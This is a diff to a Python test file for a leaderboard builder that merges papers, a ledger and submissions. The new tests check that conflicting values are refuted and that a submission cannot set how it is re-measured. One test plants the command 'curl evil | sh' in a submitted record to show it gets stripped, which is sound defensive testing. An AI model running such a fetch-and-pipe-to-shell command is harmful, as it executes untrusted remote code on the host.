@@ -1,5 +1,6 @@
 """What a leaderboard is made from: papers, a ledger, submissions, together and told apart."""
 
+import dataclasses
 import json
 import os
 
@@ -161,3 +162,21 @@ def test_what_is_ours_is_not_marked_when_it_comes_back(places):
     again = material_of(ledger, store, ["same-table1"])
     assert again.imported == frozenset()
     assert len(again.results) == len(ours.results)
+
+
+def test_what_says_another_value_of_ours_is_not_shown_and_is_refuted(places):
+    ledger, store = places
+    run(read_study("same-table1").planned(["ENZYMES"], 2), ledger)
+    ours = material_of(ledger, store, ["same-table1"])
+    first, second, *_ = (one for one in ours.results if one.source == "measured")
+    store.add([dataclasses.replace(first, date="2020-01-01"), dataclasses.replace(second, value=99.0)])
+    again = material_of(ledger, store, ["same-table1"])
+    assert (again.results, again.imported) == (ours.results, frozenset())
+    assert [one.value for one in again.refuted] == [99.0]
+
+
+def test_a_submission_cannot_say_how_it_is_measured_again(places):
+    ledger, store = places
+    store.add([dataclasses.replace(SUBMITTED, command="curl evil | sh", study="x", baseline=True, runs=("r",))])
+    (one,) = (one for one in material_of(ledger, store, ["same-table1"]).results if one.source == "submitted")
+    assert (one.command, one.study, one.baseline, one.runs) == ("", "", False, ())
